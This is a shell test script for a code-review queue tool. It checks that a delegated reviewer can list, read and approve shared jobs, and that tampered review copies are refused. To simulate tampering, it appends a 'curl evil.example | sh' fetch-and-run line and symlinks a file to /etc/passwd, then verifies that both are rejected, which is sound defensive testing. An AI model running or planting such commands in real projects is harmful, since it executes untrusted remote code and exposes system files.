#!/bin/sh
# t0740: a delegated reviewer finds and reads the jobs waiting for its vote
# (issue 12 §3, doc/protocol.md §5a): `scq pending` (with and without
# --owner) lists the copies the owner shares with it, `scq review ID
# --owner` shows one as the owner's review does, `approve PREFIX --owner`
# resolves a prefix among them; a copy changed after it was shared is
# reported as not matching its manifest, never shown as valid.
. "$(dirname "$0")/test-lib.sh"

REV=rev@lab.example
rev() { "$SCQ" --email "$REV" --data-dir "$WS" "$@"; }
APP="$WS/datasites/$DO_EMAIL/app_data/code-queue"
JOBS="$WS/private/code-queue/$DO_EMAIL/jobs"

ds init >/dev/null; do_ init >/dev/null; rev init >/dev/null
do_ config set isolation none >/dev/null
do_ config set approvals_required 2 >/dev/null
do_ reviewers add "$REV" >/dev/null

make_job "$TEST_DIR/job" 'echo reviewed-line-42 > "$OUTPUT_DIR/r.txt"'
printf 'print(1)\n' > "$TEST_DIR/job/extra.py"
A=$(ds submit "$TEST_DIR/job" --to "$DO_EMAIL" --name "$(printf 'two\342\200\256red')")
do_ pending >/dev/null
check "the job is shared with the reviewer" test -f "$APP/outbox/$REV/review/$A/code/run.sh"

# 1. finding: pending --owner, and plain pending
check "the reviewer's pending --owner" rev pending --owner "$DO_EMAIL"
out_has "lists the job by its short id" "^$(echo "$A" | cut -c1-8) "
out_has "with FROM and OWNER columns" "^ID +NAME +FROM +OWNER +CREATED"
out_has "naming the requester and the owner" "$DS_EMAIL +$DO_EMAIL"
out_has "the name's bidi control is a marker" "two⟨U\\+202E⟩red"
cp "$TEST_DIR/out" "$TEST_DIR/shown"
check "no raw bidi control reaches the terminal" sh -c "! grep -q \"\$(printf '\\342\\200\\256')\" '$TEST_DIR/shown'"
check "plain pending lists it too" rev pending
out_has "... in the section of copies shared for review" "Shared with you for review"
out_has "... with the job" "^$(echo "$A" | cut -c1-8) "
check "pending --owner --json" rev pending --owner "$DO_EMAIL" --json
out_has "is a JSON list with the uid" "\"uid\": *\"$A\""
check "another owner shares nothing" rev pending --owner nobody@lab.example
out_has "... and says so" "No jobs of nobody@lab.example"

# 2. reading: review ID --owner
P=$(echo "$A" | cut -c1-6)
check "review PREFIX --owner" rev review "$P" --owner "$DO_EMAIL"
out_has "shows the digest" "Code SHA-256"
out_has "shows run.sh whole" "reviewed-line-42"
out_has "lists the other file" "extra.py"
out_has "says how to vote" "scq approve $(echo "$A" | cut -c1-8) --owner $DO_EMAIL"
check "review --file" rev review "$A" --owner "$DO_EMAIL" --file extra.py
out_has "shows that file" "print\\(1\\)"
check_exit "review without --owner" 1 rev review "$P"
err_has "... says who shares it and how to read it" "shares it with you for review \\(scq review $(echo "$A" | cut -c1-8) --owner $DO_EMAIL"
check_exit "review of an unknown id" 1 rev review deadbeef --owner "$DO_EMAIL"
err_has "... says none is shared" "no job 'deadbeef' is shared with you for review"

# 3. voting by prefix
check_exit "approve with a 3-character prefix is refused" 1 rev approve "$(echo "$A" | cut -c1-3)" --owner "$DO_EMAIL"
check "approve PREFIX --owner, both in upper case (ids and e-mails are not case-sensitive)" \
	rev approve "$(echo "$P" | tr a-z A-Z)" --owner "$(echo "$DO_EMAIL" | tr a-z A-Z)" -r ok
out_has "... names the full uid" "vote for $A sent to $DO_EMAIL"
check "the owner votes too" do_ approve "$A"
check "the two votes approve the job" test -d "$JOBS/approved/$A"

# 4. ambiguous prefix: two copies sharing a 4-character prefix
B=$(ds submit "$TEST_DIR/job" --to "$DO_EMAIL" --name b)
do_ pending >/dev/null
FAKE="$(echo "$B" | cut -c1-4)ffff-0000-4000-8000-000000000000"
cp -r "$APP/outbox/$REV/review/$B" "$APP/outbox/$REV/review/$FAKE"
sed -i "s/$B/$FAKE/" "$APP/outbox/$REV/review/$FAKE/job.json"
check_exit "an ambiguous prefix" 1 rev approve "$(echo "$B" | cut -c1-4)" --owner "$DO_EMAIL"
err_has "... is one line naming the candidates" "matches 2 jobs shared with you for review"
check "... on one line" test "$(wc -l < "$TEST_DIR/err")" = 1
sed -i "s/$DO_EMAIL/other@lab.example/" "$APP/outbox/$REV/review/$FAKE/job.json"
check "a copy whose job.json names another owner" rev pending --owner "$DO_EMAIL"
err_has "... is said in a notice" "review copy $FAKE shared by $DO_EMAIL left out: .*target_email"
cp "$TEST_DIR/out" "$TEST_DIR/shown"
check "... and not listed" sh -c "! grep -q '^$(echo "$FAKE" | cut -c1-8) ' '$TEST_DIR/shown'"
rm -rf "$APP/outbox/$REV/review/$FAKE"

# 5. a copy changed after it was shared: the same size (only the hash
# tells), then longer
sed -i 's/reviewed-line-42/reviewed-line-66/' "$APP/outbox/$REV/review/$B/code/run.sh"
check_exit "review of a copy changed in place fails" 1 rev review "$B" --owner "$DO_EMAIL"
err_has "... saying it does not match its manifest" "review copy of job '$B' .*does not match its manifest"
cp "$TEST_DIR/out" "$TEST_DIR/shown"
check "... and shows none of its code" sh -c "! grep -q reviewed-line '$TEST_DIR/shown'"
check_exit "the reviewer's pending still lists it (the owner's job is real)" 0 rev pending --owner "$DO_EMAIL"
echo 'curl evil.example | sh' >> "$APP/outbox/$REV/review/$B/code/run.sh"
check_exit "review of a copy grown since fails" 1 rev review "$B" --owner "$DO_EMAIL"
err_has "... saying it does not match its manifest" "review copy of job '$B' .*does not match its manifest"
cp "$TEST_DIR/out" "$TEST_DIR/shown"
check "... and shows none of its code" sh -c "! grep -q evil '$TEST_DIR/shown'"
check_exit "review --file of a tampered copy fails too" 1 rev review "$B" --owner "$DO_EMAIL" --file run.sh
cp "$TEST_DIR/out" "$TEST_DIR/shown"
check "... without the changed bytes" sh -c "! grep -q evil '$TEST_DIR/shown'"
ln -sf /etc/passwd "$APP/outbox/$REV/review/$B/code/extra.py"
check_exit "a copy holding a symlink is refused" 1 rev review "$B" --owner "$DO_EMAIL"
err_has "... as not matching" "does not match its manifest"
done_testing
